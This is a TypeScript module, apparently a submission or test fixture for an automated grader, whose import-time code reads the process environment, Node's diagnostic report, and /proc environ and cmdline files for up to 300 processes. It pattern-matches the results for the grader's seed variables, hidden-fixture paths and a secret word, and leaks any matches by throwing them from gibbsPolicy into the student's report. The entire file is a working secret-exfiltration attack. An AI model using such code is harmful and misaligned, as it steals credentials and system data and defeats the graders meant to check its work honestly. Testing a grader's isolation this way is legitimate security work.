// Attack: looks for the grader's secrets — its environment (PGBOOK_SEED, the hidden folder), /proc of its parent, of pid 1 and of every process, Node's diagnostic report (environment, command line, working directory) — and makes gibbsPolicy throw whatever it finds, so that it lands in the student's own report.
import { readFileSync, readdirSync } from "node:fs";
import * as ok from "./correct.ts";
export * from "./correct.ts";

const seen: string[] = [];
const grab = (what: string, f: () => unknown) => {
  try {
    const v = f();
    seen.push(`${what}: ${typeof v === "string" ? v : JSON.stringify(v)}`);
  } catch {
    /* denied */
  }
};

grab("env", () => process.env);
grab("argv", () => [...process.execArgv, ...process.argv]);
grab("report", () => {
  const r = process.report.getReport() as { header?: unknown; environmentVariables?: unknown };
  return { header: r.header, env: r.environmentVariables };
});
const pids = new Set<string>(["self", "1", String(process.ppid)]);
grab("proc", () => {
  for (const d of readdirSync("/proc")) if (/^\d+$/.test(d) && pids.size < 300) pids.add(d);
  return pids.size;
});
for (const p of pids) {
  grab(`/proc/${p}/environ`, () => readFileSync(`/proc/${p}/environ`, "utf8").replace(/\0/g, "\n"));
  grab(`/proc/${p}/cmdline`, () => readFileSync(`/proc/${p}/cmdline`, "utf8").replace(/\0/g, " "));
}

const SECRET = /PGBOOK_(?:SEED|IMPL|SANDBOX|GRADE|CALL)\w*=?[^\n",]*|secretword123|[^\s"]*fixtures\/hidden[^\s"]*|--hidden\b[^\n]*/g;
const found = [...new Set(seen.join("\n").match(SECRET) ?? [])];

export const gibbsPolicy: typeof ok.gibbsPolicy = (theta) => {
  if (found.length) throw new Error(`found the grader's secrets: ${found.slice(0, 8).join(" | ")}`);
  return ok.gibbsPolicy(theta);
};
